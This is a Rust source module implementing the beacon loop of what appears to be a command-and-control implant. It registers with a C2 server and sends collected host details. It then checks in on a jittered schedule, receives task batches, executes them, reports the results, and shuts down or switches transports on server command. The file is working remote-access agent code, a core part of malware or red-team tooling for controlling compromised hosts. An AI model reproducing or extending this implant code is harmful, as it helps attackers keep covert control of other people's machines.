//! Beacon engine: periodic checkin, batch execution and reporting

use crate::config::Schedule;
use crate::context::AgentContext;
use crate::error::AgentError;
use crate::executor::TaskBatchExecutor;
use crate::reconnect::{ErrorBudget, Outcome};
use crate::registration;
use crate::transport::Beacon;
use backhaul_proto::message::{BeaconRegister, BeaconTasks};
use backhaul_proto::{decode, encode, Envelope, MsgType};
use std::sync::Arc;
use std::time::{Duration, SystemTime, UNIX_EPOCH};
use tokio::time::Instant;
use tracing::{debug, info, warn};

/// Result of one checkin cycle
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Cycle {
    /// Nothing to do this cycle
    Idle,
    /// Tasks executed and results sent
    Reported,
    /// A special task asked for a clean shutdown
    Terminated,
}

fn unix_time_after(duration: Duration) -> i64 {
    let now = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_secs())
        .unwrap_or_default();
    now.saturating_add(duration.as_secs()) as i64
}

fn beacon_changed(before: &Schedule, after: &Schedule) -> bool {
    before.beacon_interval != after.beacon_interval || before.beacon_jitter != after.beacon_jitter
}

/// Drives a [`Beacon`] through register, checkin, execute, report, sleep
#[derive(Clone)]
pub struct BeaconEngine {
    ctx: Arc<AgentContext>,
    executor: TaskBatchExecutor,
    budget: Option<Arc<ErrorBudget>>,
}

impl BeaconEngine {
    /// Create an engine over the shared context
    pub fn new(ctx: Arc<AgentContext>) -> Self {
        Self {
            executor: TaskBatchExecutor::new(Arc::clone(&ctx)),
            ctx,
            budget: None,
        }
    }

    /// Reset `budget` after every cycle that completes without a transport error
    pub fn with_budget(mut self, budget: Arc<ErrorBudget>) -> Self {
        self.budget = Some(budget);
        self
    }

    /// Run until a transport error or a clean shutdown
    pub async fn run(&self, beacon: Arc<dyn Beacon>) -> Result<Outcome, AgentError> {
        info!("Beacon starting via {}", beacon.active_c2());
        beacon.init().await?;
        let result = self.serve(&beacon).await;
        if let Err(e) = beacon.cleanup().await {
            debug!("Beacon cleanup failed: {}", e);
        }
        result
    }

    async fn serve(&self, beacon: &Arc<dyn Beacon>) -> Result<Outcome, AgentError> {
        self.register(beacon.as_ref()).await?;

        let mut reschedule = self.ctx.settings.subscribe();
        let mut switches = self.ctx.transports.subscribe();
        loop {
            let cycle_start = Instant::now();
            let schedule = *reschedule.borrow_and_update();
            let duration = self.ctx.settings.beacon_duration();
            debug!("Beacon cycle, next checkin in {:?}", duration);

            let engine = self.clone();
            let cycle_beacon = Arc::clone(beacon);
            let mut cycle = tokio::spawn(async move {
                engine.run_cycle(cycle_beacon.as_ref(), unix_time_after(duration)).await
            });

            let sleep = tokio::time::sleep(duration);
            tokio::pin!(sleep);
            let mut finished = None;
            let mut watching = true;
            loop {
                tokio::select! {
                    joined = &mut cycle, if finished.is_none() => {
                        let result = joined
                            .map_err(|e| AgentError::Transport(format!("beacon cycle panicked: {}", e)))
                            .and_then(|result| result);
                        match result {
                            Ok(Cycle::Terminated) => return Ok(Outcome::Terminated),
                            Err(e) => return Err(e),
                            Ok(cycle) => finished = Some(cycle),
                        }
                    }
                    _ = &mut sleep => break,
                    changed = reschedule.changed(), if watching => {
                        if changed.is_err() {
                            watching = false;
                            continue;
                        }
                        let updated = *reschedule.borrow_and_update();
                        if beacon_changed(&schedule, &updated) {
                            let duration = self.ctx.settings.beacon_duration();
                            info!("Beacon schedule changed, next checkin in {:?} from cycle start", duration);
                            sleep.as_mut().reset(cycle_start + duration);
                        }
                    }
                }
            }

            let finished = match finished {
                Some(cycle) => cycle,
                None => match cycle.await {
                    Ok(Ok(Cycle::Terminated)) => return Ok(Outcome::Terminated),
                    Ok(result) => result?,
                    Err(e) => {
                        return Err(AgentError::Transport(format!("beacon cycle panicked: {}", e)))
                    }
                },
            };
            debug!("Beacon cycle finished: {:?}", finished);
            self.cycle_succeeded();
            if switches.has_changed().unwrap_or(false) {
                info!("Transport switch requested, leaving {}", beacon.active_c2());
                return Ok(Outcome::Disconnected);
            }
        }
    }

    fn cycle_succeeded(&self) {
        if let Some(budget) = &self.budget {
            budget.reset();
        }
    }

    async fn register(&self, beacon: &dyn Beacon) -> Result<(), AgentError> {
        let schedule = self.ctx.settings.schedule();
        let register = BeaconRegister {
            id: self.ctx.config.instance_id.to_string(),
            interval: schedule.beacon_interval.as_secs(),
            jitter: schedule.beacon_jitter.as_secs(),
            register: registration::collect(&self.ctx, beacon.active_c2(), beacon.proxy_url()),
            next_checkin: unix_time_after(schedule.beacon_interval),
        };
        let envelope = Envelope::new(MsgType::BEACON_REGISTER, encode(&register)?);

        beacon.start().await?;
        let sent = beacon.send(envelope).await;
        self.close(beacon).await;
        sent?;
        info!("Beacon registered as {}", register.id);
        Ok(())
    }

    fn tasks_envelope(&self, next_checkin: i64, tasks: Vec<Envelope>) -> Result<Envelope, AgentError> {
        let schedule = self.ctx.settings.schedule();
        let batch = BeaconTasks {
            id: self.ctx.config.instance_id.to_string(),
            interval: schedule.beacon_interval.as_secs(),
            jitter: schedule.beacon_jitter.as_secs(),
            next_checkin,
            tasks,
        };
        Ok(Envelope::new(MsgType::BEACON_TASKS, encode(&batch)?))
    }

    async fn close(&self, beacon: &dyn Beacon) {
        if let Err(e) = beacon.close().await {
            debug!("Beacon close failed: {}", e);
        }
    }

    async fn checkin(&self, beacon: &dyn Beacon, next_checkin: i64) -> Result<Option<Envelope>, AgentError> {
        beacon.start().await?;
        let checkin = self.tasks_envelope(next_checkin, Vec::new())?;
        let received = match beacon.send(checkin).await {
            Ok(()) => beacon.recv().await,
            Err(e) => Err(e),
        };
        self.close(beacon).await;

        match received {
            Ok(envelope) => Ok(envelope),
            Err(AgentError::Protocol(e)) => {
                warn!("Undecodable task batch: {}", e);
                Ok(None)
            }
            Err(e) => Err(e),
        }
    }

    async fn run_cycle(&self, beacon: &dyn Beacon, next_checkin: i64) -> Result<Cycle, AgentError> {
        let Some(envelope) = self.checkin(beacon, next_checkin).await? else {
            debug!("No task batch this cycle");
            return Ok(Cycle::Idle);
        };
        let batch: BeaconTasks = match decode(&envelope.data) {
            Ok(batch) => batch,
            Err(e) => {
                warn!("Undecodable task batch: {}", e);
                return Ok(Cycle::Idle);
            }
        };
        if batch.tasks.is_empty() {
            return Ok(Cycle::Idle);
        }

        info!("Executing {} beacon tasks", batch.tasks.len());
        let report = self.executor.execute(batch.tasks).await;
        let reply = self.tasks_envelope(next_checkin, report.results)?;

        beacon.start().await?;
        let sent = beacon.send(reply).await;
        self.close(beacon).await;
        sent?;

        if report.terminate {
            info!("Beacon terminated by server");
            return Ok(Cycle::Terminated);
        }
        Ok(Cycle::Reported)
    }
}
